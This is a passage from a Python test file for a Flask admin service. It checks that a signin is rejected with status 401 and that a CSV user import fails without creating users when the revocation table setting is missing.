    refused = client.post("/admin/signin", json={"username": "kim", "password": password})
    assert refused.status_code == 401, refused.json


def test_an_import_without_the_service_table_is_refused(
    make_app: Callable[..., Flask], fresh_pool: Pool, cognito: Any, tmp_path: Path
) -> None:
    users = tmp_path / "users.csv"
    users.write_text("username,email\nmia,mia@example.com\n")
    app = make_app(fresh_pool, records_table=None)
    result = invoke(app, "import", "--csv", str(users), *FAST)
    assert result.exit_code != 0
    assert "REVOCATION_TABLE" in error_line(result)
    assert pool_users(cognito, fresh_pool) == []
